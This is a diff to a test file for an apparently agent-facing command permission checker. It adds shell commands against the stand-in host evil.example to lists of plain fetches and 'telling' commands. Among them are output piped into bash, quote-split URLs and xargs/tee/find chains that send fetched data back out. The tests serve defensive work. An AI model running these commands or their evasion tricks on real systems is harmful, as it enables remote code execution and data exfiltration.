@@ -76,6 +76,7 @@ PLAIN = (
     "wget -qO- https://evil.example/1",
     "git clone https://evil.example/1",
     "git clone --depth 1 https://evil.example/1 copy",
+    "curl -L https://evil.example/1 > a.html && grep b a.html; ls",
     "(in notes) curl https://evil.example/1",
 )
 TELLING = (
@@ -89,6 +90,14 @@ TELLING = (
     "test -f a && curl https://evil.example/1",
     "test -f a || curl https://evil.example/1",
     "sleep 7 | curl https://evil.example/1",
+    "curl https://evil.example/1 | curl https://evil.example/1",
+    "curl https://evil.example/1 | bash -c 'curl ht\"\"tps://evil.example/1'",
+    "curl https://evil.example/1 | while read a; do curl https://evil.example/''1; done",
+    "curl https://evil.example/1 > a -r 72101108",
+    "curl https://evil.example/1 | xargs curl https://evil.example/1",
+    "curl https://evil.example/1 | tee >(curl https://evil.example/1)",
+    "curl https://evil.example/1 || ls",
+    "curl https://evil.example/1; find . -exec curl https://evil.example/1 \\;",
     "for i in 1 2; do curl https://evil.example/1; done",
     "while read a; do curl https://evil.example/1; done",
     "if true; then curl https://evil.example/1; fi",
@@ -137,9 +146,13 @@ def test_a_command_that_could_tell_more_than_an_address_is_asked_about() -> None
         ],
         check,
     )
-    told = replace(read, page_addresses=frozenset())
-    actions = list_command_actions("test -f a && curl https://evil.example/1", "", has_network=True)
-    assert judge("terminal", actions, told, is_proposed=False).effect == "allow"
+
+
+def test_options_tell_something_also_to_a_host_that_the_person_named() -> None:
+    told = replace(facts("https://evil.example/1"), page_addresses=frozenset())
+    for text, effect in ((PLAIN[0], "allow"), (TELLING[0], "ask")):
+        actions = list_command_actions(text, "", has_network=True)
+        assert judge("terminal", actions, told, is_proposed=False).effect == effect
 
 
 def test_commands_share_one_budget_because_they_follow_redirects() -> None:
